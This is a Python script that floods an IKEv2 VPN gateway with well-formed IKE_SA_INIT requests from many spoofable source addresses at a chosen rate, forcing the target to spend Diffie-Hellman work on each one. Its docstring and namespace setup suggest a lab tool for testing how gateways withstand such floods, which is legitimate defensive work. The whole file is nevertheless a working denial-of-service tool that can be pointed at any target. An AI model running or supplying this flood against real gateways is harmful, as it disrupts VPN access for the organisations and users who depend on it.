#!/usr/bin/env python3
"""Floods a gateway with IKE_SA_INIT requests from many source addresses, as a DoS attacker would.

Usage: flood_ike.py TARGET_IP FIRST_SOURCE COUNT RATE SECONDS

Sends RATE IKE_SA_INIT requests per second for SECONDS to TARGET_IP:500, round-robin from COUNT
source addresses starting at FIRST_SOURCE (they must be assigned to an interface of the namespace
this runs in; each gets its own UDP socket on port 500). Every request has a fresh initiator SPI, a
proposal (AES-GCM-256, PRF-SHA256, ECP-256), a KE and a nonce, so it is a well-formed first message
a responder could spend a DH computation on (RFC 7296 section 1.2). Prints how many it sent.
"""

import ipaddress
import os
import socket
import struct
import sys
import time

IKE_SA_INIT = 34
SA, KE, NONCE = 33, 34, 40
FLAG_INITIATOR = 0x08


def payload(nxt, body):
    return struct.pack("!BBH", nxt, 0, 4 + len(body)) + body


def transform(last, ttype, tid, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def init_request():
    # ENCR_AES_GCM_16 (20) with key length 256, PRF_HMAC_SHA2_256 (5), ECP-256 (19).
    transforms = (
        transform(False, 1, 20, struct.pack("!HH", 0x800E, 256))
        + transform(False, 2, 5)
        + transform(True, 4, 19)
    )
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    ke = struct.pack("!HH", 19, 0) + os.urandom(64)
    body = payload(KE, proposal) + payload(NONCE, ke) + payload(0, os.urandom(32))
    header = struct.pack("!QQBBBBII", 0, 0, SA, 0x20, IKE_SA_INIT, FLAG_INITIATOR, 0, 28 + len(body))
    return bytearray(header + body)


def main():
    target, first, count, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    base = ipaddress.IPv4Address(first)
    socks = []
    for i in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 16)
        s.bind((str(base + i), 500))
        s.setblocking(False)
        socks.append(s)
    msg = init_request()
    dest = (target, 500)
    sent = errors = 0
    spi = int.from_bytes(os.urandom(8), "big") | 1
    start = time.monotonic()
    end = start + seconds
    i = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * rate)
        if sent + errors >= due:
            time.sleep(0.0005)
            continue
        for _ in range(min(due - sent - errors, 500)):
            spi = (spi * 6364136223846793005 + 1442695040888963407) & 0xFFFFFFFFFFFFFFFF
            struct.pack_into("!Q", msg, 0, spi | 1)
            try:
                socks[i].sendto(msg, dest)
                sent += 1
            except OSError:
                errors += 1
            i = (i + 1) % count
    took = time.monotonic() - start
    print(f"sent {sent} IKE_SA_INIT in {took:.1f} s ({sent / took:.0f}/s) from {count} sources, {errors} send errors")


if __name__ == "__main__":
    main()
